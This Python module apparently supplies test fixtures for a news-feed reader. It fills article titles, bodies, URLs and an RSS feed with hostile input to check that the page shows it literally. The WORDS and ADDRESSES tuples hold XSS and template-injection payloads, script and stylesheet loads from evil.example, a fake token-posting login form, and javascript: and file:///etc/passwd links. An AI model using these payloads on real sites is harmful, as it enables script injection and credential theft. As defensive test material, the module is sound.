"""What a feed might try: titles, texts and addresses that want to run, to load or to change the page."""

from __future__ import annotations

from datetime import timedelta
from typing import TYPE_CHECKING

from labtape.demo import NOW
from labtape.ports import FeedState, Poll, Visit
from labtape.types import Arrival, Article, Feed

if TYPE_CHECKING:
    from labtape.desk import Desk

#: Each begins or ends with a word that is told to stand on the page as written.
WORDS = (
    "<script>alert(1)</script> Nvidia gains",
    "Nvidia <img src=x onerror=alert(2)> gains",
    "Nvidia <svg onload=alert(3)><animate onbegin=alert(3) attributeName=x></svg>",
    '"><script src=//evil.example/x.js></script> Nvidia',
    "' autofocus onfocus=alert(4) x=' Nvidia",
    "Nvidia </title></head><body onload=alert(5)>",
    "Nvidia </a></h3><iframe srcdoc='<script>alert(6)</script>'></iframe>",
    "Nvidia <a href=javascript:alert(7)>read</a>",
    "Nvidia <math><mtext></form><form><mglyph><style></math><img src onerror=alert(8)>",
    "Nvidia <style>body{display:none}@import url(//evil.example/a.css)</style>",
    "Nvidia <link rel=stylesheet href=//evil.example/b.css>",
    "Nvidia <meta http-equiv=refresh content='0;url=//evil.example/'>",
    "Nvidia <base href=//evil.example/>",
    "Nvidia {{ 7 * 7 }} {% for x in (1).__class__.__mro__ %}{{ x }}{% endfor %}",
    "Nvidia ${alert(9)} #{7*7} <%= 7*7 %>",
    "Nvidia &lt;script&gt;alert(10)&lt;/script&gt; &#x3c;b&#x3e;",
    "Nvidia \u202e<tpircs\u202c gains \u2066\u2069",
    "Nvidia \u2028<script>alert(11)</script>\u2029",
    "Nvidia \uff1cscript\uff1ealert(12)\uff1c/script\uff1e",
    "Nvidia <scr\u0000ipt>alert(13)</scr\u0000ipt>",
    "Nvidia <img src=//evil.example/pixel.gif> <video src=//evil.example/v.mp4 autoplay>",
    "Nvidia <div hx-get='/logout' hx-trigger='load' hx-on:click='alert(14)'>x</div>",
    "Nvidia <form action=//evil.example/><input name=token><button>Sign in</button></form>",
    "Nvidia <template><script>alert(15)</script></template><noscript><p title='</noscript><img src=x onerror=alert(16)>'>",
    "Nvidia <!--><script>alert(17)</script--> -->",
    "Nvidia <![CDATA[<script>alert(18)</script>]]>",
    "Nvidia <details open ontoggle=alert(19)><summary>x</summary></details>",
    "Nvidia <object data=//evil.example/x.swf></object><embed src=//evil.example/x>",
    "Nvidia <a href='data:text/html,<script>alert(20)</script>'>x</a>",
    "Nvidia " + "<b>" * 300 + "deep",
    "Nvidia \x1b[31mred\x07 <ScRiPt>alert(21)</sCrIpT>",
    "英伟达 <script>alert(22)</script>“上涨”",
)

ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "https://news.example/\"onmouseover=alert(1) x=\"",
    "https://news.example/'><script>alert(1)</script>",
    "https://news.example/\u202emoc.live",
    "//evil.example/a",
    "https://user:pass@evil.example\\@news.example/",
)  # fmt: skip


def hostile_articles() -> tuple[Article, ...]:
    """Articles whose every field is a stranger's, as a store may hold them; a figure in each, so that marks cut the words."""
    made = []
    for n, words in enumerate(WORDS):
        body = f"Nvidia shares fell 5.4% on Monday. {words}\n\nQwen took 18% of tokens on OpenRouter, “{words}” said Nvidia. {words}"
        made.append(
            Article(
                id=f"hostile{n:02}",
                title=words,
                text=body,
                url=ADDRESSES[n % len(ADDRESSES)],
                canonical_url=ADDRESSES[n % len(ADDRESSES)],
                publisher=WORDS[-n],
                language="en",
                published_at=NOW - timedelta(minutes=n),
                published_precision="second",
                first_seen_at=NOW,
            )
        )
    return tuple(made)


def add_hostile(desk: Desk) -> None:
    """Keep the hostile articles and score them, and those of a feed that says the same in CDATA."""
    feed = Feed("https://evil.example/feed", title=WORDS[0], publisher=WORDS[1])
    arrivals = tuple(Arrival(article) for article in hostile_articles())
    desk.store.add_feeds([feed], at=NOW)
    desk.store.save_visits(
        [Visit(Poll(feed.url, NOW, "new"), FeedState(feed.url, last_error=WORDS[2]), arrivals)]
    )
    for _ in desk.score_new():
        pass
    desk.retract("hostile00", why=WORDS[3])


def hostile_feed() -> str:
    """The words as an RSS document."""
    items = "".join(
        f"<item><title><![CDATA[{_cdata(words)}]]></title><link>https://news.example/{n}</link>"
        f"<description><![CDATA[<p>Nvidia fell 5%. {_cdata(words)}</p>]]></description>"
        f"<pubDate>Sun, 21 Jun 2026 0{n % 10}:00:00 GMT</pubDate></item>"
        for n, words in enumerate(WORDS)
    )
    return f'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>Hostile</title>{items}</channel></rss>'


def _cdata(words: str) -> str:
    kept = "".join(c for c in words if c >= " " or c in "\n\t")
    return kept.replace("]]>", "]]]]><![CDATA[>")
